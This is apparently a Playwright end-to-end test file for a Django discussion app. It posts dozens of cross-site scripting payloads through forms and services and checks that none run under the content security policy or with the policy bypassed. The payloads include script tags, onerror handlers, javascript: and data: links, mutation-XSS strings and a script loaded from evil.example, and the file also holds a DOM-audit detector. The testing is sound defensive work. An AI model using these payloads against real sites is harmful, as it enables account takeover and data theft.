"""Threads in the browser: hostile text never runs, the forms work without JavaScript and
with htmx, the mention suggestions, and axe on a case's and a reflection's thread.

Hostile text is posted through the real forms (some of it) and the services (the rest),
then every page that shows it is opened as another member twice: with the site's content
security policy, as members get it (no violation may be reported), and with the policy
bypassed, so that a handler the sanitiser let through would really run (no dialog, no
``window.__xss``, no changed title). Each page's DOM is audited as well: no ``on*``
attribute, no script that is not the site's, no ``javascript:``/``data:`` address, and in
members' text only the tags and attributes of ``cohort.threads.text``.
"""

import re
from urllib.parse import quote

import pytest

from cohort.notifications.models import Notification
from cohort.threads import services
from cohort.threads.models import Comment, Reaction, Reflection, Thread
from tests.cases_tests.conftest import make_case
from tests.e2e.test_browser import log_in, serious_violations
from tests.factories import member
from tests.threads_tests import conftest as threads_fixtures
from tests.threads_tests.conftest import reflect

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True, serialized_rollback=True)]

# The threads tests' fixtures: a block with a post-first question and an open one.
block = threads_fixtures.block
prompts = threads_fixtures.prompts

GROUPS = ("alfa", "bravo", "charlie", "delta", "echo")

# Each one, if it ran, would open a dialog, set window.__xss or set the title to PWNED.
PAYLOADS = [
    "<script>alert('s1')</script>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('img1')>",
    "<IMG SRC=x OnErRoR=\"window.__xss=1\">",
    "<svg onload=alert('svg1')>",
    "<svg><script>window.__xss=1</script></svg>",
    "<body onload=alert('body')>",
    "@Sanne Test <img src=x onerror=alert('mention')>",
    "[<img src=x onerror=alert('nested')>](http://x.example)",
    # ^ the first ten go through the browser's form
    "[klik](javascript:alert('md1'))",
    "[klik](JaVaScRiPt:alert('md2'))",
    "[klik](&#106;avascript:alert('md3'))",
    "[klik](&#x6A;&#x61;vascript:window.__xss=1)",
    "[klik](<java\tscript:alert('tab1')>)",
    "[klik](java&#9;script:alert('tab2'))",
    "[klik](  javascript:alert('spaces'))",
    "[klik](javascript&colon;alert('colon'))",
    "[klik](vbscript:msgbox('vb'))",
    "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[klik](data:text/html,<script>alert('data')</script>)",
    "![x](javascript:alert('img-md'))",
    "![x](x\" onerror=\"alert('img-md2'))",
    "![x](data:image/svg+xml,<svg onload=alert('svgdata')>)",
    "[klik][r1]\n\n[r1]: javascript:alert('ref1')",
    "[klik][r2]\n\n[r2]: JAVASCRIPT:window.__xss=1 \"titel\"",
    "<javascript:alert('auto1')>",
    "<JaVaScRiPt:document.title='PWNED'>",
    "javascript:alert('bare') en www.example.org",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss1')>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;"
    "&lt;img&Tab;src=1&Tab;onerror=alert('mxss2')&gt;\">",
    "<svg><style><img src=x onerror=window.__xss=1></style></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    "<svg><a xlink:href=\"javascript:alert('xlink')\"><text x=0 y=20>x</text></a></svg>",
    "<iframe src=\"javascript:alert('iframe')\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
    "<form><button formaction=\"javascript:alert('formaction')\">x</button></form>",
    "<form action=\"javascript:alert('form')\"><input type=submit></form>",
    "<style>body{background:url(\"javascript:alert('style')\")}</style>",
    "<a href=\"x\" onclick=\"alert('onclick')\">klik</a>",
    "<a href=\"javascript:alert('rawa')\">klik</a>",
    "<a href=\"&#x6A;avascript:alert('rawa2')\">klik</a>",
    "<!--<img src=x onerror=alert('comment')>-->",
    "<![CDATA[<img src=x onerror=alert('cdata')>]]>",
    "@Sanne Test[x](javascript:alert('mention-link'))",
    "[@Sanne Test](javascript:alert('mention-in-link'))",
    "[x](<http://x.example/@Sanne Test\" onmouseover=\"alert('mention-attr')>)",
    "[x](http://x.example \"<img src=x onerror=alert('title')>\")",
    "[x](http://x.example\" onmouseover=\"alert('break'))",
    "`<img src=x onerror=alert('code')>`",
    "```html\n<script>alert('fence')</script>\n```",
    "<details open ontoggle=alert('toggle')>",
    "<object data=\"javascript:alert('object')\"></object>",
    "<embed src=\"javascript:alert('embed')\">",
    "<base href=\"javascript:alert('base')//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('meta')\">",
    "<input autofocus onfocus=alert('focus')>",
    "\"><img src=x onerror=alert('break-out')>",
    "</textarea><img src=x onerror=alert('textarea')>",
    "</script><script>alert('json')</script>",
    "<template><img src=x onerror=alert('template')></template>",
    "<select><style></select><img src=x onerror=alert('select')>",
    "> <img src=x onerror=alert('quote')>\n> [x](javascript:alert('quote2'))",
    "***<img src=x onerror=document.title='PWNED'>***",
    "<a href=\"http://x.example\" style=\"position:fixed;inset:0\" id=\"mention-people\">over</a>",
    "[x](mailto:a@b.example?body=<img src=x onerror=alert('mailto')>)",
]
BROWSER_PAYLOADS = 10
REPLY = re.compile(r"^\s*(Reageer|Reply|Beantwoord|Antwoord)\s*$", re.IGNORECASE)
EDIT = re.compile(r"^\s*(Wijzig|Bewerk|Edit)\s*$", re.IGNORECASE)

REFLECTION_PAYLOADS = [
    "<img src=x onerror=alert('r1')> *mijn* reflectie",
    "[lees](javascript:alert('r2')) @Youssef Test <svg onload=alert('r3')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "![r](javascript:alert('r4')) <iframe src=javascript:alert('r5')>",
    "[r][ref]\n\n[ref]: &#106;avascript:alert('r6')",
    "</textarea><script>alert('r7')</script>",
]

# Recorded in every document before the page's own scripts (a CDP init script, which the
# page's CSP does not govern).
RECORDER = """
window.__xss = undefined;
window.__csp = [];
document.addEventListener("securitypolicyviolation", function (event) {
  window.__csp.push(event.violatedDirective + " " + event.blockedURI + " " +
                    (event.sample || ""));
}, true);
"""

# What members' text may hold (cohort.threads.text), and what the lists around it may.
USER_CONTENT = {
    ".comment__body, .reflection__body, .history .prose, .thread__pinned .prose": {
        "tags": ["P", "BR", "STRONG", "EM", "DEL", "A", "UL", "OL", "LI", "BLOCKQUOTE",
                 "CODE", "PRE", "HR", "H3", "H4", "SPAN"],
        "attributes": ["href", "title", "rel", "start", "class"],
    },
    ".search-result": {"tags": ["P", "SPAN", "H2", "A"], "attributes": ["href", "class"]},
    ".notification": {"tags": ["A", "SPAN", "P"], "attributes": ["href", "class"]},
    ".case-list__item": {"tags": ["H2", "H3", "A", "P", "SPAN"],
                         "attributes": ["href", "class"]},
}

AUDIT = """
(containers) => {
  const problems = [];
  const name = (el) => el.tagName.toLowerCase() + (el.id ? "#" + el.id : "") +
    (el.className && typeof el.className === "string" ? "." + el.className.split(" ")[0] : "");
  const scheme = (value) => {
    const squeezed = (value || "").replace(/[\\u0000-\\u0020\\u007f-\\u009f]/g, "").toLowerCase();
    const match = /^([a-z][a-z0-9+.-]*):/.exec(squeezed);
    return match ? match[1] : "";
  };
  const URLISH = ["href", "src", "action", "formaction", "xlink:href", "data", "srcdoc",
                  "background", "poster", "codebase", "cite", "ping"];
  for (const el of document.querySelectorAll("*")) {
    for (const attr of Array.from(el.attributes)) {
      const attrName = attr.name.toLowerCase();
      if (attrName.startsWith("on")) problems.push(name(el) + " has " + attrName);
      if (URLISH.includes(attrName) && ["javascript", "vbscript", "data"].includes(scheme(attr.value)))
        problems.push(name(el) + " " + attrName + "=" + attr.value.slice(0, 80));
      if (attrName === "srcdoc") problems.push(name(el) + " has srcdoc");
    }
  }
  for (const script of document.querySelectorAll("script")) {
    const own = script.src && new URL(script.src).origin === location.origin &&
      new URL(script.src).pathname.startsWith("/static/");
    if (!own && script.type !== "application/json")
      problems.push("script " + (script.src || script.textContent.slice(0, 80)));
  }
  // Anywhere on the page (an <svg> or <math> in members' text is caught below).
  for (const el of document.querySelectorAll("iframe, frame, object, embed, applet, base, " +
                                             "meta[http-equiv], style, link[rel=import]"))
    problems.push(name(el));
  for (const [selector, allowed] of Object.entries(containers)) {
    for (const box of document.querySelectorAll(selector)) {
      for (const el of box.querySelectorAll("*")) {
        if (!allowed.tags.includes(el.tagName)) problems.push("in " + selector + ": " + name(el));
        for (const attr of Array.from(el.attributes)) {
          if (!allowed.attributes.includes(attr.name.toLowerCase()))
            problems.push("in " + selector + ": " + name(el) + " [" + attr.name + "]");
        }
        if (el.tagName === "A" && el.hasAttribute("href")) {
          const url = new URL(el.getAttribute("href"), location.href);
          const fine = ["http:", "https:", "mailto:"].includes(url.protocol);
          if (!fine) problems.push("in " + selector + ": a href=" + el.getAttribute("href").slice(0, 80));
        }
      }
    }
  }
  const main = document.querySelector("main");
  return {
    problems: problems,
    xss: window.__xss === undefined ? null : String(window.__xss),
    title: document.title,
    csp: window.__csp || [],
    text: main ? main.innerText : "",
  };
}
"""


class Visitor:
    """One member in a browser context of their own, recording whatever would tell of a
    script that ran or was stopped: dialogs, console errors, page errors, CSP violations."""

    def __init__(self, browser, base_url, user=None, *, bypass_csp=False, js=True,
                 width=1280, height=900, storage_state=None):
        self.base_url = base_url
        self.context = browser.new_context(
            viewport={"width": width, "height": height}, locale="nl-NL",
            bypass_csp=bypass_csp, java_script_enabled=js, storage_state=storage_state,
        )
        self.context.set_default_timeout(10_000)
        self.context.add_init_script(RECORDER)
        self.page = self.context.new_page()
        self.dialogs, self.console_errors, self.page_errors = [], [], []
        self.page.on("dialog", self._dialog)
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda error: self.page_errors.append(str(error)))
        if user is not None and storage_state is None:
            log_in(self.page, base_url, user)

    def _dialog(self, dialog):
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def _console(self, message):
        if message.type == "error" or "Content Security Policy" in message.text:
            self.console_errors.append(message.text)

    def check(self, path, settle=100):
        """Open ``path`` and report everything suspicious on it (an empty report is clean)."""
        marks = len(self.dialogs), len(self.console_errors), len(self.page_errors)
        response = self.page.goto(self.base_url + path)
        self.page.wait_for_timeout(settle)  # a broken <img src=x> has fired onerror by now
        state = self.page.evaluate(AUDIT, USER_CONTENT)
        self.page.wait_for_timeout(50)
        state["xss"] = self.page.evaluate(
            "window.__xss === undefined ? null : String(window.__xss)")
        report = {
            "status": response.status if response else None,
            "dialogs": self.dialogs[marks[0]:],
            "console": self.console_errors[marks[1]:],
            "page_errors": self.page_errors[marks[2]:],
            "csp": state["csp"],
            "xss": state["xss"],
            "pwned_title": state["title"] == "PWNED",
            "dom": state["problems"],
        }
        return report, state["text"]

    def close(self):
        self.context.close()


def suspicious(report):
    return {key: value for key, value in report.items()
            if key != "status" and value} | (
        {"status": report["status"]} if report["status"] != 200 else {})


def probe(group, number, payload):
    """The payload after a line of its own that makes it unique and findable."""
    return f"xssprobe {group} nr{number}\n\n{payload}"


def body_of(number):
    return probe(GROUPS[number % len(GROUPS)], number, PAYLOADS[number])


def browser_of(page):
    return page.context.browser


def post_through_form(page, text, form="#reageer"):
    """Fill the comment form and post it (htmx swaps the thread): wait for the fresh form."""
    page.locator(f"{form} textarea[name=body]").fill(text)
    with page.expect_response(lambda r: r.request.method == "POST"
                              and "/reageren/" in r.url) as answer:
        page.locator(f"{form} button[type=submit]").click()
    page.wait_for_function(
        "() => { const f = document.querySelector('#reageer-body'); return f && f.value === ''; }")
    return answer.value


# --- 1. Hostile input: nothing runs --------------------------------------------------------


def test_hostile_text_in_comments_and_reflections_never_runs(
        live_server, browse, settings, participant, peer, facilitator, edition1, block,
        prompts):
    settings.THREAD_POST_LIMIT = 10_000
    settings.THREAD_EDIT_GRACE_MINUTES = -1  # every edit keeps a revision: history pages
    gated_id, open_id = prompts
    eve = member(edition1, first_name="Eve", email="eve@example.org",
                 display_name="Eve\"><img src=x onerror=alert('naam')>")
    case = make_case(participant, edition1,
                     title="Casus <img src=x onerror=alert('casus')> xssprobe")
    thread = services.thread_for_case(case)
    block_url = block.get_url()
    base = live_server.url
    case_url = case.get_absolute_url()

    # Through the browser: the peer posts ten comments on the case and edits one; Sanne
    # and the peer write reflections beneath the block's questions, Sanne edits hers.
    def write(page):
        browser = browser_of(page)
        youssef = Visitor(browser, base, peer)
        youssef.page.goto(base + case_url)
        statuses = [post_through_form(youssef.page, body_of(i)).status
                    for i in range(BROWSER_PAYLOADS)]
        youssef.page.goto(base + case_url)
        # The edit page itself (with JavaScript the link opens the form in place).
        youssef.page.goto(base + youssef.page.locator(
            "#reactie-1 .comment__actions a[href$='/bewerken/']").get_attribute("href"))
        youssef.page.locator("textarea[name=body]").fill(
            probe("alfa", 900, "</textarea><img src=x onerror=alert('edit')> [x](javascript:"
                               "alert('edit2')) <svg/onload=window.__xss=1>"))
        with youssef.page.expect_navigation() as edit:
            youssef.page.locator("main form button[type=submit]").click()
        edit_status = edit.value.status if edit.value else None
        for prompt_id, text in ((gated_id, REFLECTION_PAYLOADS[4]),
                                (open_id, REFLECTION_PAYLOADS[5])):
            youssef.page.goto(base + block_url)
            youssef.page.locator(f"#reflectie-{prompt_id}").fill(probe("echo", 800, text))
            youssef.page.locator(f"form:has(#reflectie-{prompt_id}) button[name=share]").click()
            # Shared: back at the question, where the peers' reflections now show.
            youssef.page.wait_for_url(f"**#vraag-{prompt_id}")
        youssef.close()

        sanne = Visitor(browser, base, participant)
        shared = []
        for number, (prompt_id, text) in enumerate(((gated_id, REFLECTION_PAYLOADS[0]),
                                                    (open_id, REFLECTION_PAYLOADS[1]))):
            sanne.page.goto(base + block_url)
            sanne.page.locator(f"#reflectie-{prompt_id}").fill(probe("delta", 700 + number, text))
            sanne.page.locator(f"form:has(#reflectie-{prompt_id}) button[name=share]").click()
            sanne.page.wait_for_url(f"**#vraag-{prompt_id}")
            shared.append(base + sanne.page.locator(f"#vraag-{prompt_id} a[href*='/reflecties/']")
                          .first.get_attribute("href"))
        for number, text in enumerate(REFLECTION_PAYLOADS[2:4]):  # two edits of the first
            sanne.page.goto(shared[0])
            sanne.page.locator("main a[href$='/bewerken/']").click()
            sanne.page.wait_for_url("**/bewerken/")
            sanne.page.locator("textarea[name=body]").fill(probe("delta", 710 + number, text))
            sanne.page.locator("main form button[type=submit]").first.click()
            sanne.page.wait_for_url("**/reflecties/*/")
        sanne.close()
        return statuses, edit_status

    statuses, edit_status = browse(write)
    assert all(status < 400 for status in statuses), statuses

    # The rest through the service: comments on the case (some as replies), by the peer
    # and by Eve, whose name is hostile too; on the reflections, by both sides.
    first = Comment.objects.get(thread=thread, number=1)
    for number in range(BROWSER_PAYLOADS, len(PAYLOADS)):
        services.comment_post(user=peer, thread=thread, body=body_of(number),
                              parent=first if number % 7 == 0 else None)
    services.comment_post(user=eve, thread=thread, body=probe("bravo", 901, "Ik ben Eve."))
    services.reaction_toggle(user=eve, comment=first, kind=Reaction.Kind.THANKS)
    services.comment_post(user=peer, thread=thread,
                          body=probe("charlie", 902, "@Eve\"><img src=x onerror=alert('naam')> "
                                                     "kijk hier"))
    sanne_gated = Reflection.objects.get(author=participant, prompt_id=gated_id)
    sanne_open = Reflection.objects.get(author=participant, prompt_id=open_id)
    peer_reflections = list(Reflection.objects.filter(author=peer).order_by("pk"))
    assert sanne_gated.revisions.count() == 2 and sanne_gated.body.startswith("xssprobe delta nr711")
    assert len(peer_reflections) == 2 and all(not r.is_draft for r in peer_reflections)
    reflection_thread = Thread.objects.get(reflection=sanne_gated)
    for number, payload in enumerate(PAYLOADS[:8]):
        services.comment_post(user=peer, thread=reflection_thread,
                              body=probe("echo", 600 + number, payload))
    peer_thread = Thread.objects.get(reflection=peer_reflections[0])
    services.comment_post(user=participant, thread=peer_thread,
                          body=probe("echo", 650, "@Youssef Test <img src=x onerror=alert('m')>"))
    edited = Comment.objects.get(thread=thread, number=1)
    thread.refresh_from_db()
    pages = -(-thread.root_count // settings.THREAD_PAGE_SIZE)

    hostile_queries = ["\"><img src=x onerror=alert('q1')>", "</title><script>alert('q2')</script>",
                       "<svg onload=alert('q3')>", "javascript:alert('q4')"]
    searches = [f"/zoeken/?q={quote('xssprobe ' + group)}" for group in GROUPS] + [
        f"/zoeken/?q={quote(query)}" for query in hostile_queries]
    rounds = {
        participant: [f"{case_url}?pagina={n}" for n in range(1, pages + 1)]
        + [f"/reacties/{edited.pk}/geschiedenis/", f"/edities/{edition1.pk}/gesprekken/",
           f"/edities/{edition1.pk}/reflecties/", "/meldingen/"]
        + [r.get_absolute_url() for r in peer_reflections] + searches,
        peer: [sanne_gated.get_absolute_url(), sanne_open.get_absolute_url(),
               f"{sanne_gated.get_absolute_url()}geschiedenis/", "/meldingen/",
               f"/reacties/{edited.pk}/bewerken/", f"{block_url}",
               f"/zoeken/?q={quote('xssprobe delta')}"],
        facilitator: [case_url, f"/reacties/{edited.pk}/geschiedenis/", "/meldingen/"],
    }

    def read(page):
        browser = browser_of(page)
        found, texts, sessions = [], {}, {}
        for bypass in (False, True):
            for user, paths in rounds.items():
                visitor = Visitor(browser, base, user, bypass_csp=bypass,
                                  storage_state=sessions.get(user.pk))
                sessions[user.pk] = visitor.context.storage_state()
                for path in paths:
                    report, text = visitor.check(path)
                    texts[(user.pk, path)] = text
                    if suspicious(report):
                        found.append({"as": user.get_display_name(), "csp_bypassed": bypass,
                                      "path": path, **suspicious(report)})
                visitor.close()
        return found, texts

    found, texts = browse(read)
    assert found == [], "\n".join(map(str, found))
    # Editing a comment in the browser worked, and the history page showed both versions
    # (checked after the XSS checks, so a broken edit does not hide what they find).
    assert edit_status == 200, f"editing comment #1 answered {edit_status}"
    assert edited.revisions.count() == 1 and edited.edited_at is not None

    # Every payload was really on the pages read (not, say, refused or paged away).
    case_text = "\n".join(text for (pk, path), text in texts.items()
                          if pk == participant.pk and path.startswith(case_url))
    missing = [number for number in range(1, len(PAYLOADS))  # 0 was edited into 900
               if f"xssprobe {GROUPS[number % len(GROUPS)]} nr{number}" not in case_text]
    assert missing == [] and "xssprobe alfa nr900" in case_text
    history_text = texts[(participant.pk, f"/reacties/{edited.pk}/geschiedenis/")]
    assert "xssprobe alfa nr0" in history_text and "xssprobe alfa nr900" in history_text
    assert "xssprobe delta nr711" in texts[(peer.pk, sanne_gated.get_absolute_url())]
    history = texts[(peer.pk, f"{sanne_gated.get_absolute_url()}geschiedenis/")]
    assert all(f"xssprobe delta nr{n}" in history for n in (700, 710, 711))
    for group in GROUPS:  # the search found comments of each group
        assert f"xssprobe {group} nr" in texts[
            (participant.pk, f"/zoeken/?q={quote('xssprobe ' + group)}")]
    assert case.title.split(" xssprobe")[0] in texts[(participant.pk, "/meldingen/")]
    assert block.title in texts[(peer.pk, "/meldingen/")]  # Sanne mentioned him there
    assert Notification.objects.filter(recipient=peer, kind="comment_mention").exists()
    assert Notification.objects.filter(recipient=participant, kind="comment_mention").exists()
    assert Comment.objects.filter(thread=thread).count() == len(PAYLOADS) + 2


def test_the_detectors_catch_an_injected_handler(live_server, browse, participant, peer,
                                                facilitator, edition1):
    """The checks above can fail: a handler put into a comment's DOM is reported as a CSP
    violation (policy on), runs and is seen (policy bypassed), and the DOM audit flags it."""
    case = make_case(participant, edition1)
    services.comment_post(user=peer, thread=services.thread_for_case(case), body="Gewoon tekst.")
    inject = """() => document.querySelector('.comment__body').insertAdjacentHTML('beforeend',
        '<img src=x onerror="window.__xss=1; alert(7)">')"""

    def visit(page):
        results = {}
        for bypass in (False, True):
            visitor = Visitor(browser_of(page), live_server.url, participant, bypass_csp=bypass)
            visitor.page.goto(live_server.url + case.get_absolute_url())
            visitor.page.evaluate(inject)
            visitor.page.wait_for_timeout(300)
            state = visitor.page.evaluate(AUDIT, USER_CONTENT)
            results[bypass] = {"csp": state["csp"], "xss": state["xss"],
                               "dom": state["problems"], "dialogs": list(visitor.dialogs),
                               "console": list(visitor.console_errors)}
            visitor.close()
        return results

    results = browse(visit)
    with_csp, without = results[False], results[True]
    assert with_csp["xss"] is None and with_csp["dialogs"] == []
    assert any("script-src" in violation for violation in with_csp["csp"])
    assert any("Content Security Policy" in message for message in with_csp["console"])
    assert any("img" in problem and "onerror" in problem for problem in with_csp["dom"])
    assert without["xss"] == "1" and without["dialogs"] == ["alert: 7"]
    assert any("onerror" in problem for problem in without["dom"])


def test_search_shows_members_text_as_written(live_server, browse, participant, peer,
                                              facilitator, edition1):
    """Escaped once, not twice: an excerpt of a comment reads as the comment does."""
    case = make_case(participant, edition1)
    services.comment_post(user=peer, thread=services.thread_for_case(case),
                          body='Jan & Piet zeiden "ja" tegen <b> en 3 > 2.')

    def visit(page):
        visitor = Visitor(browser_of(page), live_server.url, participant)
        report, _text = visitor.check("/zoeken/?q=Piet")
        results = visitor.page.locator(".search-result").all_inner_texts()
        visitor.page.goto(live_server.url + case.get_absolute_url())
        comment = visitor.page.locator(".comment__body").all_inner_texts()
        visitor.close()
        return suspicious(report), results, comment

    found, results, comment = browse(visit)
    assert found == {}
    assert comment == ['Jan & Piet zeiden "ja" tegen <b> en 3 > 2.']
    assert any('Jan & Piet zeiden "ja" tegen <b> en 3 > 2.' in hit for hit in results), results


# --- 2. Without JavaScript -------------------------------------------------------------------


def test_thread_works_without_javascript(live_server, browse, participant, peer, facilitator,
                                         edition1):
    case = make_case(participant, edition1)
    thread = services.thread_for_case(case)
    services.comment_post(user=participant, thread=thread, body="Wat zouden jullie doen?")
    url = live_server.url + case.get_absolute_url()

    def visit(page):
        visitor = Visitor(browser_of(page), live_server.url, peer, js=False)
        p = visitor.page
        out = {}
        p.goto(url)
        # Post a comment.
        p.locator("#reageer textarea[name=body]").fill("Ik zou eerst vragen wat zij willen.")
        with p.expect_navigation() as posted:
            p.locator("#reageer button[type=submit]").click()
        out["post_status"] = posted.value.status
        out["posted_url"] = p.url
        out["posted"] = p.locator("#reactie-2 .comment__body").inner_text()
        out["posted_message"] = " ".join(p.locator("[role=status]").all_inner_texts()).strip()
        # Reply to Sanne's comment: a form in a <details> beneath it, or a link that opens
        # the form beneath it.
        details = p.locator("#reactie-1 details.comment__reply")
        if details.count():
            details.locator("summary").click()
        else:
            with p.expect_navigation():
                p.locator("#reactie-1 .comment__actions").get_by_role(
                    "link", name=REPLY).click()
        form = p.locator("#reactie-1 form:has(input[name=parent])")
        out["reply_form_visible"] = form.is_visible()
        form.locator("textarea[name=body]").fill("En wat zou jij zelf willen?")
        with p.expect_navigation() as replied:
            form.locator("button[type=submit]").click()
        out["reply_status"] = replied.value.status
        out["reply"] = p.locator(".comments--replies .comment__body").all_inner_texts()
        # Toggle a reaction on Sanne's comment, and back.
        with p.expect_navigation() as reacted:
            p.locator("#reactie-1 .reactions button").first.click()
        out["react_status"] = reacted.value.status
        out["pressed"] = p.locator("#reactie-1 .reactions button").first.get_attribute(
            "aria-pressed")
        out["count"] = " ".join(
            p.locator("#reactie-1 .reactions button .reaction__count").all_inner_texts())
        with p.expect_navigation():
            p.locator("#reactie-1 .reactions button").first.click()
        out["pressed_again"] = p.locator("#reactie-1 .reactions button").first.get_attribute(
            "aria-pressed")
        # Edit one's comment: the link leads to a form page.
        p.locator("#reactie-2 .comment__actions").get_by_role("link", name=EDIT).click()
        p.wait_for_url("**/bewerken/")
        out["edit_value"] = p.locator("textarea[name=body]").input_value()
        p.locator("textarea[name=body]").fill("Ik zou eerst vragen wat zij nodig hebben.")
        with p.expect_navigation() as edited:
            p.locator("main form button[type=submit]").click()
        out["edit_status"] = edited.value.status
        out["edited_url"] = p.url
        out["edited"] = (p.locator("#reactie-2 .comment__body").inner_text()
                         if edited.value.status == 200 else None)
        out["errors"] = visitor.console_errors + visitor.page_errors
        visitor.close()
        return out

    out = browse(visit)
    assert out["post_status"] == 200 and out["posted_url"].endswith("#reactie-2")
    assert out["posted"] == "Ik zou eerst vragen wat zij willen."
    assert out["posted_message"], "no message after posting"
    assert out["reply_form_visible"] and out["reply_status"] == 200
    assert out["reply"] == ["En wat zou jij zelf willen?"]
    assert out["react_status"] == 200
    assert out["pressed"] == "true" and out["count"] == "1"
    assert out["pressed_again"] == "false"
    assert out["edit_value"] == "Ik zou eerst vragen wat zij willen."
    assert out["edit_status"] == 200, f"saving the edit answered {out['edit_status']}"
    assert out["edited"] == "Ik zou eerst vragen wat zij nodig hebben."
    assert out["errors"] == []
    comments = list(Comment.objects.filter(thread=thread).order_by("number"))
    assert [c.author_id for c in comments] == [participant.pk, peer.pk, peer.pk]
    assert comments[2].parent_id == comments[0].pk
    assert Reaction.objects.filter(comment=comments[0]).count() == 0


# --- 3. With htmx -----------------------------------------------------------------------------


def test_htmx_swaps_the_thread_in_place_and_keeps_a_refused_text(live_server, browse,
                                                                 participant, peer,
                                                                 facilitator, edition1):
    case = make_case(participant, edition1)
    url = live_server.url + case.get_absolute_url()
    long_text = "Lang verhaal. " * 720  # 10,080 characters

    def visit(page):
        visitor = Visitor(browser_of(page), live_server.url, peer)
        p = visitor.page
        p.goto(url)
        navigations = []
        p.on("framenavigated",
             lambda frame: navigations.append(frame.url) if frame == p.main_frame else None)
        p.evaluate("window.__kept = 'nog hier'")
        out = {}
        answer = post_through_form(p, "Met htmx geplaatst.")
        out["status"] = answer.status
        out["hx_request"] = answer.request.headers.get("hx-request")
        p.locator("#gesprek .comment__body", has_text="Met htmx geplaatst.").wait_for()
        out["kept"] = p.evaluate("window.__kept")
        out["comments"] = p.locator("#gesprek article.comment").count()
        out["navigations"] = list(navigations)
        out["threads"] = p.locator("section#gesprek").count()

        def refused(text, *, drop_limits):
            if drop_limits:
                p.evaluate("document.querySelector('#reageer-body').removeAttribute('maxlength')")
            p.locator("#reageer-body").fill(text)
            with p.expect_response(lambda r: r.request.method == "POST") as response:
                p.locator("#reageer button[type=submit]").click()
            p.wait_for_timeout(400)  # let htmx swap, if it does
            field = p.locator("textarea[name=body]").first
            return {
                "status": response.value.status,
                "alert": " ".join(p.locator("#gesprek [role=alert], #reageer [role=alert]")
                                  .all_inner_texts()).strip(),
                "kept": field.input_value() == text,
                "forms": p.locator("#reageer").count(),
            }

        out["spaces"] = refused("      ", drop_limits=False)
        out["kept_after_refusals"] = p.evaluate("window.__kept")
        p.goto(url)
        out["long"] = refused(long_text, drop_limits=True)
        out["errors"] = [e for e in visitor.console_errors + visitor.page_errors
                         if "status of 400" not in e]
        visitor.close()
        return out

    out = browse(visit)
    assert out["status"] in (200, 302) and out["hx_request"] == "true"
    assert out["kept"] == "nog hier" and out["navigations"] == []
    assert out["comments"] == 1 and out["threads"] == 1
    # A refused post shows why, in place, and keeps the text.
    assert (out["spaces"]["status"], out["long"]["status"]) == (400, 400), out
    assert out["spaces"]["alert"], "no error shown for a comment of only spaces"
    assert out["long"]["alert"], "no error shown for a comment over 10,000 characters"
    assert out["spaces"]["kept"] and out["long"]["kept"]
    assert out["spaces"]["forms"] == 1 and out["long"]["forms"] == 1
    assert out["kept_after_refusals"] == "nog hier"
    assert out["errors"] == []
    assert Comment.objects.count() == 1


# --- 4. Mentions ------------------------------------------------------------------------------


def test_mention_suggestions_offer_the_edition_only(live_server, browse, participant, peer,
                                                    outsider, facilitator, edition1):
    case = make_case(participant, edition1)
    sanne = participant.get_display_name()
    assert sanne == "Sanne Test"

    def visit(page):
        visitor = Visitor(browser_of(page), live_server.url, peer)
        p = visitor.page
        p.goto(live_server.url + case.get_absolute_url())
        # The names come from the field's own URL, asked on the first "@".
        url = p.locator("#reageer-body").get_attribute("data-mentions")
        out = {"people": p.evaluate(
            "url => fetch(url).then(r => r.json()).then(d => d.names)", url)}
        field = p.locator("#reageer-body")
        field.click()
        field.press_sequentially("Dag @San")
        p.locator(".mention-box [role=option]").first.wait_for()
        out["options"] = p.locator(".mention-box [role=option]").all_inner_texts()
        out["controls"] = field.get_attribute("aria-controls")
        out["box_id"] = p.locator(".mention-box").get_attribute("id")
        out["axe_open"] = serious_violations(p)
        field.press("Enter")
        out["value"] = field.input_value()
        out["box_after"] = p.locator(".mention-box").count()
        field.press_sequentially("en @Lot")
        p.wait_for_timeout(200)
        out["outsider_box"] = p.locator(".mention-box [role=option]").all_inner_texts()
        field.fill("")
        field.press_sequentially("@Y")
        p.wait_for_timeout(200)
        out["self_box"] = p.locator(".mention-box [role=option]").all_inner_texts()
        field.fill("")
        field.press_sequentially("Vraag aan @Ma")
        p.locator(".mention-box [role=option]").first.wait_for()
        field.press("ArrowDown")  # one option: wraps to itself
        field.press("Tab")
        out["facilitator_value"] = field.input_value()
        field.press_sequentially("wat denk jij?")
        post_through_form(p, field.input_value())
        out["mention_links"] = p.locator("#gesprek .comment__body a.mention").all_inner_texts()
        out["errors"] = visitor.console_errors + visitor.page_errors
        visitor.close()
        return out

    out = browse(visit)
    assert sorted(out["people"]) == ["Marieke Test", "Sanne Test"]
    assert out["options"] == ["@Sanne Test"] and out["controls"] == out["box_id"]
    assert out["value"] == "Dag @Sanne Test " and out["box_after"] == 0
    assert out["outsider_box"] == [] and out["self_box"] == []
    assert out["facilitator_value"] == "Vraag aan @Marieke Test "
    assert out["mention_links"] == ["@Marieke Test"]
    assert out["errors"] == []
    assert out["axe_open"] == [], out["axe_open"]
    assert list(Comment.objects.get().mentions.all()) == [facilitator]


# --- 5. axe and the phone -----------------------------------------------------------------


def test_case_and_reflection_threads_pass_axe_on_desktop_and_phone(
        live_server, browse, participant, peer, facilitator, edition1, block, prompts):
    _gated, open_id = prompts
    case = make_case(participant, edition1)
    thread = services.thread_for_case(case)
    first = services.comment_post(user=participant, thread=thread,
                                  body="Wat zouden **jullie** doen?\n\n- vragen\n- wachten")
    services.comment_post(user=peer, thread=thread, parent=first,
                          body="Eerst vragen, @Sanne Test. Zie https://www.example.org/"
                               "een/heel/lang/adres/dat/niet/afbreekt/"
                               "eenwoorddatmaardoorgaatenmaardoorgaatzonderspatieofstreepje")
    services.comment_post(user=peer, thread=thread,
